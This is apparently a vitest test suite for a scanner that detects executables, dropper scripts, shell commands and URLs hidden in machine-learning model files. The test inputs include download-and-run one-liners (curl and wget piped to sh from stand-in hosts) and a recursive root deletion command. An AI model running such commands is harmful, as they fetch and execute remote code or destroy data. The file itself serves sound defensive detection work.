import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { scan, fromBytes, SEVERITY_RANK, scanReport, type FileReport, type ScanOptions } from '../../src/engine';
import { SWEEP_WINDOW } from '../../src/engine/formats/unknown/scanner';
import { CPU, concat, elf, fat, macho, pe, plantFakeMagics, prng, randomBytes, randomWeights, text } from '../builders/executables';
import { reportProblems } from '../helpers/schema';

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`../../fixtures/executables/${name}`, import.meta.url)));
const run = (bytes: Uint8Array, name: string, options: ScanOptions = {}) => scan(fromBytes(bytes, name), options);
const above = (r: FileReport, level: 'info' | 'warning') => r.findings.filter((f) => SEVERITY_RANK[f.severity] > SEVERITY_RANK[level]);
const find = (r: FileReport, ruleId: string) => r.findings.filter((f) => f.ruleId === ruleId);

/** Copies `part` into a copy of `blob` at `at`. */
function embed(blob: Uint8Array, part: Uint8Array, at: number): Uint8Array {
  const out = blob.slice();
  out.set(part, at);
  return out;
}

describe('whole executables dropped into a model folder', () => {
  it.each([
    ['a gcc-built ELF', 'malicious/hello-x86_64.elf', 'executable/elf', 'ELF 64-bit LSB x86-64 shared object'],
    ['a real PE launcher', 'malicious/distlib-t64.exe', 'executable/pe', 'PE32+ executable (console) x86-64, 6 sections'],
  ])('reports %s as CRITICAL at offset 0', async (_what, file, ruleId, description) => {
    const r = await run(fixture(file), 'model.bin');
    const hit = find(r, ruleId)[0];
    expect(hit?.severity).toBe('critical');
    expect(hit?.location.offset).toBe(0);
    expect(hit?.message).toBe(`This content is ${description}`);
    expect(r.status).toBe('issues');
    expect(r.complete).toBe(true);
    expect(find(r, 'file/unrecognized-format')).toEqual([]);
    expect(r.nodes[0]?.notes?.detected).toBe(description);
  });

  it.each([
    ['thin Mach-O (arm64)', macho(), 'Mach-O 64-bit arm64 executable'],
    ['fat Mach-O (x86_64 + arm64)', fat([CPU.x86_64, CPU.arm64]), 'Mach-O universal binary with 2 architectures: [x86_64, arm64]'],
  ])('reports a %s as CRITICAL executable/macho', async (_what, bytes, description) => {
    const r = await run(bytes, 'weights.bin');
    const hit = find(r, 'executable/macho').find((f) => f.location.offset === 0);
    expect(hit?.severity).toBe('critical');
    expect(hit?.message).toBe(`This content is ${description}`);
  });

  it('reports a shell dropper script as CRITICAL and its download-and-run line as a WARNING', async () => {
    const r = await run(fixture('malicious/dropper.sh'), 'setup.bin');
    expect(find(r, 'executable/script')[0]).toMatchObject({ severity: 'critical', location: { offset: 0 } });
    expect(find(r, 'strings/shell-command')[0]).toMatchObject({ severity: 'warning', location: { pointer: 'line:1', offset: 0 } });
    expect(find(r, 'file/unrecognized-format')).toEqual([]);
  });

  it('reports the same script as a WARNING when it is a standalone file named as a script (convert.sh)', async () => {
    const r = await run(fixture('malicious/dropper.sh'), 'convert.sh');
    expect(find(r, 'executable/script')[0]).toMatchObject({ severity: 'warning', location: { offset: 0 } });
    expect(find(r, 'executable/script')[0]?.severityReason).toMatch(/standalone/);
  });
});

describe('executables hidden inside a blob', () => {
  const blob = randomBytes(3 * 1024 * 1024, 11);

  it.each([
    ['ELF', elf(), 'executable/elf', 777_777],
    ['PE', pe(), 'executable/pe', 1_234_567],
    ['thin Mach-O', macho({ is64: false, cpu: CPU.x86 }), 'executable/macho', 2_000_001],
    ['script after a NUL', concat(new Uint8Array([0]), text('#!/usr/bin/env python3\nimport os\n')), 'executable/script', 99_999],
  ])('finds an embedded %s at its exact offset', async (_what, part, ruleId, at) => {
    const r = await run(embed(blob, part, at), 'tensor.bin');
    const expected = ruleId === 'executable/script' ? at + 1 : at;
    const hits = find(r, ruleId);
    expect(hits.map((f) => f.location.offset)).toEqual([expected]);
    expect(hits[0]?.severity).toBe('critical');
    expect(hits[0]?.message).toMatch(new RegExp(`^Embedded at offset ${expected}:`));
    expect(find(r, 'file/unrecognized-format')[0]?.severity).toBe('info');
  });

  it('finds headers that straddle a sweep window boundary exactly once', async () => {
    const size = SWEEP_WINDOW * 2 + 4096;
    let b = randomBytes(size, 3);
    const elfAt = SWEEP_WINDOW - 20;                 // ELF header cut by the first boundary
    const peAt = 2 * SWEEP_WINDOW - 0x90;            // DOS header in window 1, PE header in window 2
    b = embed(b, elf(), elfAt);
    b = embed(b, pe(), peAt);
    const r = await run(b, 'shard.bin');
    expect(find(r, 'executable/elf').map((f) => f.location.offset)).toEqual([elfAt]);
    expect(find(r, 'executable/pe').map((f) => f.location.offset)).toEqual([peAt]);
  });

  it('finds a fat header whose first slice lies in the next window', async () => {
    const at = SWEEP_WINDOW - 8;
    const r = await run(embed(randomBytes(SWEEP_WINDOW + 64 * 1024, 5), fat([CPU.x86_64, CPU.arm64]), at), 'x.bin');
    expect(find(r, 'executable/macho').map((f) => f.location.offset)).toEqual([at, at + 4096, at + 8192]);
  });

  it('finds an ELF appended after a text head', async () => {
    const head = text('{"name": "config"}\n'.repeat(5000));
    const r = await run(concat(head, new Uint8Array(16), elf()), 'config.json');
    expect(find(r, 'executable/elf').map((f) => f.location.offset)).toEqual([head.length + 16]);
  });

  it('finds a shell command in a printable run inside binary data', async () => {
    const cmd = text('curl -s http://payload.test/x | sh');
    const r = await run(embed(blob, concat(new Uint8Array([0]), cmd, new Uint8Array([0])), 500_000), 'blob.bin');
    const hit = find(r, 'strings/shell-command')[0];
    expect(hit?.severity).toBe('warning');
    expect(hit?.location.offset).toBe(500_001);
  });
});

describe('false positives', () => {
  it('gives nothing above INFO for 8 MiB of float32 weights with fake magics planted every 4 KiB', async () => {
    const w = randomWeights(8 * 1024 * 1024, 99);
    expect(plantFakeMagics(w, 4096).length).toBeGreaterThan(2000);
    const r = await run(w, 'pytorch_model.bin');
    expect(above(r, 'info')).toEqual([]);
    expect(r.findings.map((f) => f.ruleId)).toEqual(['file/unrecognized-format']);
    expect(r.complete).toBe(true);
  });

  it('gives nothing above INFO and no unrecognised-format for a model card with code blocks', async () => {
    const r = await run(fixture('benign/model-card.md'), 'README.md');
    expect(above(r, 'info')).toEqual([]);
    expect(find(r, 'executable/script')).toEqual([]);
    expect(find(r, 'file/unrecognized-format')).toEqual([]);
    expect(r.nodes[0]?.notes?.content).toBe('text');
  });
});

/** A tokenizer.json in the Hugging Face shape: BPE vocab with \u0120-escaped tokens and merges. */
function tokenizerJson(entries: number): string {
  const rnd = prng(2024);
  const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,-_:;!?()[]{}#$%&*+/=@';
  const token = () => {
    let t = rnd() < 0.6 ? '\\u0120' : '';
    const n = 1 + Math.floor(rnd() * 10);
    for (let i = 0; i < n; i++) t += alphabet[Math.floor(rnd() * (i === 0 ? alphabet.length : 52))];
    return t.replace(/["\\]/g, '');
  };
  const vocab = Array.from({ length: entries }, (_, i) => `"${token()}": ${i}`).join(', ');
  const merges = Array.from({ length: entries / 2 }, () => `"${token()} ${token()}"`).join(', ');
  return `{"version": "1.0", "truncation": null, "added_tokens": [{"id": 0, "content": "<|endoftext|>", "special": true}], "model": {"type": "BPE", "vocab": {${vocab}}, "merges": [${merges}]}}`;
}

describe('text files', () => {
  it('gives nothing above INFO for a 2 MB tokenizer.json', async () => {
    const json = tokenizerJson(120_000);
    expect(json.length).toBeGreaterThan(2_000_000);
    const r = await run(text(json), 'tokenizer.json');
    expect(above(r, 'info')).toEqual([]);
  });

  it('flags shell commands as WARNING with the line they are on', async () => {
    const lines = Array.from({ length: 3000 }, (_, i) => `step ${i}: nothing to see`);
    lines[2500] = 'cleanup: rm -rf / --no-preserve-root';
    const r = await run(text(lines.join('\n')), 'notes.txt');
    const hit = find(r, 'strings/shell-command')[0];
    expect(hit?.severity).toBe('warning');
    const line = Number(hit?.location.pointer?.replace('line:', ''));
    expect(line).toBeGreaterThan(1);
    expect(line).toBeLessThanOrEqual(2501);
    expect(hit?.location.offset).toBeLessThanOrEqual(lines.slice(0, 2500).join('\n').length + 1);
    expect(hit?.evidence).toContain('rm -rf /');
  });

  it('keeps line numbers right across sweep windows', async () => {
    const line = 'x'.repeat(99) + '\n';                      // 100 bytes per line
    const n = Math.ceil((SWEEP_WINDOW + 200_000) / 100);
    const body = line.repeat(n);
    const target = n - 10;                                   // a line in the second window
    const cmd = 'wget -qO- http://h.test/a | sh;';
    const src = body.slice(0, (target - 1) * 100) + cmd + body.slice((target - 1) * 100 + cmd.length);
    const r = await run(text(src), 'big.log');
    const hit = find(r, 'strings/shell-command')[0]!;
    const first = Number(hit.location.pointer!.slice(5));
    const blockText = src.slice(hit.location.offset!, hit.location.offset! + 16 * 1024);
    expect(src.slice(0, hit.location.offset!).split('\n').length).toBe(first);
    expect(blockText).toContain('wget -qO-');
  });
});

describe('limits', () => {
  it('stops at maxSweepBytes, marks the file incomplete and says so', async () => {
    const b = embed(randomBytes(3 * 1024 * 1024, 8), elf(), 2_500_000);
    const r = await run(b, 'huge.bin', { limits: { maxSweepBytes: 1024 * 1024 } });
    expect(r.complete).toBe(false);
    expect(r.status).toBe('error');
    expect(r.nodes[0]?.status).toBe('limited');
    expect(find(r, 'scan/limit-reached')[0]).toMatchObject({ severity: 'warning', location: { offset: 1024 * 1024 } });
    expect(find(r, 'executable/elf')).toEqual([]); // beyond the limit: not seen, and the report says so
  });

  it('stops between windows when the caller aborts', async () => {
    let reads = 0;
    const src = fromBytes(randomBytes(3 * SWEEP_WINDOW, 4), 'slow.bin');
    const signal = { get aborted() { return reads > 1; }, reason: 'cancelled' };
    const counting = { ...src, read: (o: number, l: number) => { reads++; return src.read(o, l); } };
    const r = await scan(counting, {}, { signal });
    expect(r.complete).toBe(false);
    expect(find(r, 'scan/cancelled')).toHaveLength(1);
    expect(reads).toBeLessThan(4);
  });

  it('produces schema-valid reports', async () => {
    const files = [await run(fixture('malicious/hello-x86_64.elf'), 'a.bin'), await run(fixture('benign/model-card.md'), 'README.md')];
    const report = scanReport(files, { startedAt: new Date().toISOString(), durationMs: 1, options: {} });
    expect(reportProblems(JSON.parse(JSON.stringify(report)))).toEqual([]);
  });
});

describe('links in documentation', () => {
  const text = new TextEncoder().encode('# My model\n\nTrained with the recipe at https://blog.example-lab.org/recipe and served from http://203.0.113.9/.\n');

  it('keeps a link to an unknown host at INFO in a README', async () => {
    const r = await run(text, 'README.md');
    const url = find(r, 'strings/url')[0];
    expect(url).toMatchObject({ severity: 'info' });
    expect(url?.severityReason).toMatch(/documentation/);
    expect(r.status).toBe('clean');
  });

  it('flags the same link as a WARNING in a file that is not documentation', async () => {
    const r = await run(text, 'model_args.bin');
    expect(find(r, 'strings/url')[0]).toMatchObject({ severity: 'warning' });
  });
});
